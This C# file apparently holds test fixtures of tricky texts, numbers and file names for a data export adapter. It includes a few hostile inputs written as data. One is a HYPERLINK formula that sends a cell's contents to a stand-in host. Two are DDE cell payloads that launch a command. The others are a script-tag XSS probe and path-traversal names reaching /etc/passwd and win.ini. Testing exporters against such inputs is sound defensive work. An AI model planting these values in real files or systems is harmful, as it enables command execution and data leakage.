namespace Granary.Adapters.Demo;

/// <summary>Texts that are legal and break careless programs, each with a name that says what it is.</summary>
internal static class DemoOddities
{
    private const int Megabyte = 1024 * 1024;

    public static readonly IReadOnlyList<(string Title, string? Text)> Notes =
    [
        ("Nothing", null),
        ("Empty", ""),
        ("Quotes", "She said \"yes\", then \"\"maybe\"\"."),
        ("Commas", "one,two,,four,"),
        ("Line feed", "first line\nsecond line"),
        ("Carriage return", "first line\rsecond line"),
        ("Both", "first line\r\nsecond line\r\n"),
        ("Emoji", "😀 👩‍👩‍👧‍👦 🏳️‍🌈 𝒳"),
        ("Right to left", "שלום עולם, مرحبا بالعالم \u202eabc\u202c"),
        ("Formula", "=HYPERLINK(\"http://example.com/?\"&A1,\"click\")"),
        ("Plus", "+33 4 50 00 00 00"),
        ("Minus", "-2+3+cmd|' /C calc'!A0"),
        ("At", "@SUM(1+1)*cmd|' /C calc'!A0"),
        ("Tab", "\t=1+1"),
        ("Apostrophe", "'tis a text"),
        ("Backslash and full stop", @"\."),
        ("Spaces", "  before and after  "),
        ("Only a space", " "),
        ("Composed and decomposed", "é e\u0301"),
        ("Byte order mark", "\ufefftext"),
        ("Separators", "a\u2028b\u2029c\u0085d\u00a0e"),
        ("Semicolon first", "\";=1+1"),
        ("Leading zeros", "0012345678901234567890"),
        ("The word", "NULL"),
        ("Script", "<script>alert('x')</script>"),
        ("One megabyte", string.Create(Megabyte, 0, static (text, _) =>
        {
            for (var i = 0; i < text.Length; i++) text[i] = i % 80 == 79 ? '\n' : (char)('a' + (i % 26));
        })),
    ];

    /// <summary>Numbers whose every digit counts.</summary>
    public static readonly IReadOnlyList<(string Name, double Price, double Tax, long Stock)> Products =
    [
        ("Many decimals", 0.1 + 0.2, 1.0 / 3.0, long.MaxValue),
        ("Large", 12_345_678_901_234.567, 1e-7, long.MinValue),
        ("Beyond the precision of a spreadsheet", 1e300, 5e-324, 9_007_199_254_740_993),
        ("Negative zero", -0.0, -1.5, 0),
    ];

    /// <summary>Names people gave to files.</summary>
    public static readonly IReadOnlyList<string> FileNames =
    [
        "../../../etc/passwd.txt", @"..\..\windows\win.ini.txt", "/absolute.txt", "CON.txt", "nul", "Café.pdf", "Cafe\u0301.pdf", "契約書.pdf", "عقد.pdf", "😀.png",
        $"{new string('n', 240)}.txt", ".hidden.json", "no extension", "trailing dot.", " spaces .csv", "=1+1.csv", "a/b\\c:d*e?f.txt", "two\nlines.txt",
        "photo.png", "photo.png", "PHOTO.PNG", "archive.tar.zip",
    ];
}
